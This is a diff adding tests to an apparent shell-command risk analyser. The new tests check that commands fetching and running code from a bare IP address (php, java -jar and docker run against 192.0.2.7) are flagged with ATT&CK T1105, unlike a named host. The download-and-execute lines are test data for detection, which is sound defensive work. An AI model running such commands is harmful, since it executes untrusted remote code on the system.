@@ -32,3 +32,18 @@ describe("what another command of the line fetches is what runs", () => {
     expect(running("ls | awk '{ print $2 }' | sh").map(({ value }) => value)).toEqual(["{ print $2 }"]);
   });
 });
+
+describe("what runs from a machine of the web that is called by its number", () => {
+  it.each(["php http://192.0.2.7/k.php", "java -jar http://192.0.2.7/k.jar", "docker run 192.0.2.7:5000/k"])(
+    "is no everyday work: %s",
+    (line) => {
+      const [first] = running(line);
+      expect(first?.usual).toBe("common");
+      expect(first?.techniques).toContain("T1105");
+    },
+  );
+
+  it("is everyday work where the machine has a name", () => {
+    expect(running("java -jar https://h.example/k.jar")[0]?.usual).toBe("routine");
+  });
+});
